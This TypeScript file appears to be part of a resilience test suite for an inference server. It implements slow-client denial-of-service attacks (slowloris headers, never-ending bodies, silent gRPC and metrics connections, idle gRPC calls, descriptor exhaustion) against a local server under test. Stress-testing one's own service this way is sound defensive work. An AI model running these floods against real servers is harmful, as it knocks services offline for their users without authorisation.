/** Attacks by clients that are slow on purpose: they open as many connections as they can and send nearly nothing. */
import { readFileSync } from "node:fs";
import type { Socket } from "node:net";
import type { Attack, Scene } from "../attack.ts";
import { GrpcConnection } from "../clients/grpc.ts";
import { dial, pause } from "../clients/http.ts";

/** Descriptors of this process that are reserved for other uses than attackers' sockets. */
const OTHER_FILES = 256;
const AT_ONCE = 200;
const DRIP_MS = 500;

/** The number of connections, limited by the descriptors of this process. */
function atMost(count: number): number {
  const [, soft = "1024"] = /^Max open files\s+(\d+)/m.exec(readFileSync("/proc/self/limits", "latin1")) ?? [];
  return Math.min(count, Number(soft) - OTHER_FILES);
}

/** Opens `count` connections, keeps each alive with a byte now and then, and replaces each that is closed. */
async function besiege(url: string, count: number, forMs: number, head: string, drop: string): Promise<void> {
  const untilMs = performance.now() + forMs;
  const open = new Set<Socket>();
  const openOne = async (): Promise<void> => {
    const socket = await dial(url);
    if (socket === undefined) return;
    open.add(socket);
    socket.once("close", () => open.delete(socket));
    socket.resume();
    socket.write(head);
  };
  try {
    while (performance.now() < untilMs) {
      for (let left = count - open.size; left > 0 && performance.now() < untilMs; left -= AT_ONCE) {
        await Promise.all(Array.from({ length: Math.min(left, AT_ONCE) }, openOne));
        // A server that closes them at once must not turn this into a busy loop.
        await pause(10);
      }
      await pause(Math.min(DRIP_MS, Math.max(1, untilMs - performance.now())));
      for (const socket of open) socket.write(drop);
    }
  } finally {
    for (const socket of open) socket.destroy();
  }
}

const count = (scene: Scene): number => atMost(scene.of(1_500, 10_000));
const forMs = (scene: Scene): number => scene.of(1_500, 30_000);
const LINE = "POST /v2/models/add-one/infer HTTP/1.1\r\nHost: 127.0.0.1\r\n";

const slowHeads: Attack = {
  name: "slow-heads",
  what: "10,000 connections whose headers never end",
  system: "open",
  async run(scene) {
    await besiege(scene.http, count(scene), forMs(scene), LINE, "X: y\r\n");
    return [];
  },
};

const slowBodies: Attack = {
  name: "slow-bodies",
  what: "10,000 connections whose bodies never end",
  system: "open",
  async run(scene) {
    await besiege(scene.http, count(scene), forMs(scene), `${LINE}Content-Length: 100000\r\n\r\n`, " ");
    return [];
  },
};

const silent: Attack = {
  name: "silent-connections",
  what: "10,000 connections to the port of gRPC, and to that of metrics, that say nothing",
  system: "open",
  async run(scene) {
    const each = Math.floor(count(scene) / 2);
    await Promise.all([scene.grpc, scene.metrics].map((url) => besiege(url, each, forMs(scene), "", "")));
    return [];
  },
};

const calls: Attack = {
  name: "idle-calls",
  what: "20,000 gRPC calls whose messages never come",
  system: "open",
  async run(scene) {
    const connections = await Promise.all(
      Array.from({ length: scene.of(4, 20) }, () => GrpcConnection.open(scene.grpc)),
    );
    try {
      for (let i = 0; i < 1_000; i++) {
        for (const connection of connections)
          if (connection.isOpen) connection.begin("ModelInfer", { "tutti-app": "a" });
        if (i % 100 === 99) await pause(10);
      }
      await pause(scene.of(1_000, 20_000));
      return [];
    } finally {
      for (const connection of connections) connection.close();
    }
  },
};

const descriptors: Attack = {
  name: "descriptors",
  what: "more connections to HTTP, gRPC and metrics than the process has descriptors (ulimit -n 256)",
  system: "descriptors",
  async run(scene) {
    const urls = [scene.http, scene.grpc, scene.metrics];
    await Promise.all(urls.map((url) => besiege(url, 400, scene.of(2_000, 15_000), LINE, "X: y\r\n")));
    return [];
  },
};

export const slowAttacks: readonly Attack[] = [slowHeads, slowBodies, silent, calls, descriptors];
